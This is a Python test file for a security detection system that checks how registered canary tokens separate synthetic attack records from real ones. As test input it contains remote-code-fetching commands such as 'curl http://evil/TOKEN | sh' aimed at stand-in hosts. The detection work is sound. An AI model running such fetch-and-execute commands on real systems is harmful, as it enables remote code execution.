"""A canary is known by its token for one use case, one asset, a while; nobody else can hide behind it."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from nachtwacht.detect import Batch, State, canary, detect, load_rules
from nachtwacht.detect.normalise import Estate, normalise
from nachtwacht.detect.packs import read_packs
from nachtwacht.ingest.record import Record
from nachtwacht.model.watch import CanaryRegistration
from tests.packs.office import ADDRESSES, office

ROOT = Path(__file__).resolve().parents[2]
NOW = 1793718000.0  # 2026-11-03 16:00 in Amsterdam, a Tuesday.
NIGHT = 1793757600.0  # 03:00 in the night after it.
TOKEN = "nwc-0123456789abcdef0123"
KEY = "SHA256:AqYwXBqDTXUD6cFOhPFlVmv1mYDkxWWZ3Wv5pE0PpRk"


class Scene:
    """The watch of the office, without a process; the clock is the test's."""

    def __init__(self):
        scope = office()
        packs, faults = read_packs(ROOT / "detection_packs")
        assert not faults
        self.rules = load_rules(packs, scope).rules
        self.estate = Estate(scope, ADDRESSES)
        self.state = State.memory()
        self.count = 0
        self.late = 0.0

    def register(self, use_case, asset, token=TOKEN, *, at=NOW, life=300.0, clock=None):
        registration = CanaryRegistration(
            token=token,
            customer="gouden-aar",
            use_case=use_case,
            asset=asset,
            issued=at,
            expires=at + life,
            clock=clock,
        )
        return canary.register(self.state.connection, registration, at)

    def arrive(self, source, host, body, *, at=NOW):
        self.count += 1
        late = self.late
        record = Record(
            id=f"{self.count:032x}",
            host=host,
            source=source,
            time=at,
            observed=at + 0.5,
            arrived=at + 1 + late,
            body=body,
        )
        events = canary.mark(self.state.connection, normalise(record, self.estate), at + 2 + late)
        return list(detect(Batch(events=tuple(events), now=at + 2 + late), self.rules, self.state))

    def shell(self, command, host="ws-01", *, at=NOW):
        self.count += 1
        line = {
            "ID": f"{at:.3f}:{self.count}",
            "SYSCALL": {
                "SYSCALL": "execve",
                "success": "yes",
                "exe": "/usr/bin/dash",
                "pid": self.count,
                "ppid": 1,
                "UID": "root",
            },
            "EXECVE": {"ARGV": ["sh", "-c", command]},
        }
        return self.arrive("linux_audit", host, json.dumps(line), at=at)

    def mail(self, *, token="", at=NOW):
        body = {
            "time": at,
            "rcpt_to": ["j.bakker@gouden-aar.example"],
            "subject": f"Test {token}",
            "urls": [f"https://{token or 'www'}.example/"],
        }
        return self.arrive("mail_log", "mail-01", body, at=at)

    def traffic(self, *, name="www.example", kind="tls", flow=1, address="198.51.100.7", at=NOW):
        body = {
            "timestamp": at,
            "flow_id": flow,
            "event_type": kind,
            "src_ip": "10.91.10.21",
            "dest_ip": address,
            "dest_port": 443,
            kind: {"sni": name} if kind == "tls" else {"state": "closed"},
        }
        return self.arrive("network_metadata", "sensor-1", body, at=at)

    def login(self, fingerprint, host="fin-01", *, at=NOW):
        message = f"Accepted publickey for root from 10.91.20.10 port 1 ssh2: ED25519 {fingerprint}"
        body = {"MESSAGE": message, "SYSLOG_IDENTIFIER": "sshd-session", "__REALTIME_TIMESTAMP": str(int(at * 1e6))}
        return self.arrive("linux_auth", host, body, at=at)

    def hops(self, token=TOKEN):
        return {hop.hop: hop.at for hop in canary.hops(self.state.connection, token)}


@pytest.fixture
def scene():
    return Scene()


def canaries(findings):
    return [finding.canary for finding in findings]


def test_a_canary_is_found_and_its_hops_are_noted(scene):
    assert scene.register("malware_execution", "ws-01") == ""
    found = scene.shell(f"curl http://127.0.0.1:9/{TOKEN} | sh", at=NOW + 10)
    assert canaries(found) == [TOKEN]
    assert scene.hops() == {
        "emitted": NOW,
        "shipped": NOW + 10.5,
        "arrived": NOW + 11,
        "parsed": NOW + 12,
        "rule_fired": NOW + 12,
    }


def test_hops_tell_how_far_it_came_when_no_rule_fires(scene):
    scene.register("malware_execution", "ws-01")
    assert scene.shell(f"echo {TOKEN}") == []
    assert set(scene.hops()) == {"emitted", "shipped", "arrived", "parsed"}


def test_the_same_word_without_registration_means_nothing(scene):
    assert canaries(scene.shell(f"curl http://x/{TOKEN} | sh")) == [None]


def test_an_expired_token_means_nothing(scene):
    scene.register("malware_execution", "ws-01", life=60)
    assert canaries(scene.shell(f"curl http://x/{TOKEN} | sh", at=NOW + 61)) == [None]


def test_another_asset_is_real(scene):
    scene.register("malware_execution", "ws-01")
    assert canaries(scene.shell(f"curl http://x/{TOKEN} | sh", host="fin-01")) == [None]


def test_another_use_case_is_real(scene):
    scene.register("phishing_then_foreign_traffic", "ws-01")
    assert canaries(scene.shell(f"curl http://x/{TOKEN} | sh")) == [None]


def test_a_spent_token_means_nothing_but_the_same_attack_may_be_recorded_twice(scene):
    scene.register("malware_execution", "ws-01")
    assert canaries(scene.shell(f"curl http://x/{TOKEN} | sh", at=NOW)) == [TOKEN]
    assert canaries(scene.shell(f"curl http://x/{TOKEN} | bash", at=NOW + 2)) == [TOKEN]
    later = NOW + canary.SPENT_AFTER_SECONDS + 5
    assert canaries(scene.shell(f"curl http://evil/{TOKEN} | sh", at=later)) == [None]


def test_a_token_is_registered_once_for_ever(scene):
    assert scene.register("malware_execution", "ws-01", life=60) == ""
    assert "registered before" in scene.register("malware_execution", "ws-01", life=60)
    assert "registered before" in scene.register("malware_execution", "ws-01", at=NOW + 3600)
    assert "shorter" in scene.register("malware_execution", "ws-01", token="short")
    assert "expired" in scene.register("malware_execution", "ws-01", token=TOKEN + "x", life=-1)


def test_a_canary_of_two_records_is_correlated_with_itself(scene):
    scene.register("phishing_then_foreign_traffic", "ws-01")
    assert scene.mail(token=TOKEN, at=NOW) == []
    assert canaries(scene.traffic(name=f"{TOKEN}.canary.example", at=NOW + 5)) == [TOKEN]


def test_a_canarys_mail_does_not_make_real_traffic_suspicious(scene):
    scene.register("phishing_then_foreign_traffic", "ws-01")
    scene.mail(token=TOKEN)
    assert scene.traffic(at=NOW + 5) == []


def test_a_real_mail_does_not_make_a_canarys_traffic_real(scene):
    scene.register("phishing_then_foreign_traffic", "ws-01")
    scene.mail()
    assert scene.traffic(name=f"{TOKEN}.canary.example", at=NOW + 5) == []


def test_records_of_the_same_flow_without_a_name_are_the_canarys_too(scene):
    """A flow record comes when the flow has ended and names no host; it must not set off a real response."""
    scene.register("phishing_then_foreign_traffic", "ws-01", life=60)
    scene.mail()
    scene.traffic(name=f"{TOKEN}.canary.example", flow=77, at=NOW + 5)
    assert scene.traffic(kind="flow", flow=77, at=NOW + 90) == []
    assert canaries(scene.traffic(kind="flow", flow=78, at=NOW + 91)) == [None]


def test_an_attacker_who_says_another_canarys_token_is_still_correlated(scene):
    """A token of another use case on the same host does not take the traffic out of the real correlation."""
    scene.register("malware_execution", "ws-01")
    scene.mail()
    assert canaries(scene.traffic(name=f"{TOKEN}.evil.example", at=NOW + 5)) == [None]


def test_the_registered_clock_counts_for_the_registered_use_case(scene):
    scene.register("off_hours_admin_login", "fin-01", token=KEY, clock=NIGHT)
    (found,) = scene.login(KEY)
    assert found.canary == KEY
    assert found.entities["local_time"] == "2026-11-04T03:00:00+01:00"
    assert found.time == NOW


def test_the_registered_clock_counts_for_nothing_else(scene):
    """By day, with a key that registered the night for another host, and the other way round."""
    scene.register("off_hours_admin_login", "fin-01", token=KEY, clock=NIGHT)
    assert scene.login(KEY, host="ws-01") == []
    scene.register("off_hours_admin_login", "fin-01", token=KEY[:-1] + "X", clock=NOW)
    assert canaries(scene.login("SHA256:another", at=NIGHT)) == [None]


def test_a_token_in_the_body_counts_in_any_case(scene):
    scene.register("malware_execution", "ws-01")
    assert canaries(scene.shell(f"curl http://x/{TOKEN.upper()} | sh")) == [TOKEN]


def test_records_of_a_canary_that_were_held_up_are_still_the_canarys(scene):
    """The runtime was away for a quarter of an hour: what the canary did must not be answered for real."""
    scene.register("malware_execution", "ws-01", life=60)
    scene.late = 900.0
    assert canaries(scene.shell(f"curl http://127.0.0.1:9/{TOKEN} | sh", at=NOW + 10)) == [TOKEN]
    assert canaries(scene.shell(f"curl http://evil/{TOKEN} | sh", at=NOW + 61)) == [None]


def test_but_not_for_ever(scene):
    scene.register("malware_execution", "ws-01", life=60)
    scene.late = canary.LATE_SECONDS + 120.0
    assert canaries(scene.shell(f"curl http://127.0.0.1:9/{TOKEN} | sh", at=NOW + 10)) == [None]
